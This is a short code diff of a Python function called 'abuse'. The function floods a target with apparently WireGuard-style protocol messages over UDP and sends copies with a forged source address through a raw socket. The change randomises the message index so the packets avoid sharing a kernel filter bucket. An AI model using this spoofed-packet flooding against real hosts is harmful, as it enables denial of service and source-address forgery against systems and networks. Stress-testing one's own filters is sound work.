@@ -78,8 +78,8 @@ def abuse(to: str, peer: str, source: str, count: str) -> None:
         socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw,
     ):
         for number in range(int(count)):
-            # Of one index, lest one of many share a bucket of the kernel's filter with a session's.
-            for message in (_initiation(peer, number), pack("<IIQ", 4, 0, number) + bytes(100)):
+            index = int.from_bytes(os.urandom(4), "little")
+            for message in (_initiation(peer, number), pack("<IIQ", 4, index, number) + bytes(100)):
                 udp.sendto(message, (host, int(port)))
                 raw.sendto(_spoofed(source, to, message), (host, 0))
             if number % _BURST == 0:
